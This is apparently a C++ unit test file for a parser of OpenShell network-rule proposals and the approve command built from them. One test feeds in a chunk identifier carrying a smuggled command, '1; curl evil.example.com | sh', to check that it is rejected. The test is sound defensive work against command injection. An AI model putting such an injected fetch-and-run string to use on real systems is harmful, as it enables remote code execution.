// SPDX-License-Identifier: Apache-2.0
#include "backend/openshell/proposal.h"

#include <catch2/catch.hpp>

namespace openshell {
namespace {

TEST_CASE("proposals are listed as OpenShell shows them") {
  std::vector<Proposal> all = ParseProposals(
      "Network Rules:  (version 1, 2 chunks)\n\n  Chunk: e80f1b32\n  Status: pending\n  Rule: r\n"
      "  Endpoints: other.example.com:80 [L4]\n  Binaries: /usr/bin/curl\n\n  Chunk: ae5d572b\n"
      "  Status: approved\n");
  REQUIRE(all.size() == 2);
  CHECK(all[0].id == "e80f1b32");
  CHECK(all[0].endpoints == "other.example.com:80 [L4]");
  CHECK(all[0].binaries == "/usr/bin/curl");
  CHECK(all[1].status == "approved");
  CHECK(ParseProposals("Status: x\nEndpoints: y\n").empty());
}

TEST_CASE("proposals are read with the colours that OpenShell does not leave out") {
  std::vector<Proposal> all = ParseProposals(
      "\x1b[1m\x1b[36mNetwork Rules:\x1b[39m\x1b[0m  (version 1, 1 chunk)\n\n"
      "  \x1b[2mChunk:\x1b[0m 6981387f-875d-4031-902a-66593772cb75\n"
      "  \x1b[2mStatus:\x1b[0m \x1b[33mpending\x1b[39m\n"
      "  \x1b[2mEndpoints:\x1b[0m denied.example.com:80 [L4]\n");
  REQUIRE(all.size() == 1);
  CHECK(all[0].id == "6981387f-875d-4031-902a-66593772cb75");
  CHECK(all[0].status == "pending");
  CHECK(all[0].endpoints == "denied.example.com:80 [L4]");
  CHECK(AcceptCommand("openshell --gateway 'fleet'", "aci-1", all[0]) ==
        "openshell --gateway 'fleet' rule approve aci-1 --chunk-id "
        "6981387f-875d-4031-902a-66593772cb75");
}

TEST_CASE("what cannot be an identifier becomes no command for a person to run") {
  std::vector<Proposal> all = ParseProposals(
      "  Chunk: e80f1b32\n  Status: pending\n  Binaries: /tmp/a\n"
      "  Chunk: 1; curl evil.example.com | sh\n  Status: approved\n");
  REQUIRE(all.size() == 1);
  CHECK(all[0].status == "pending");
}

}  // namespace
}  // namespace openshell
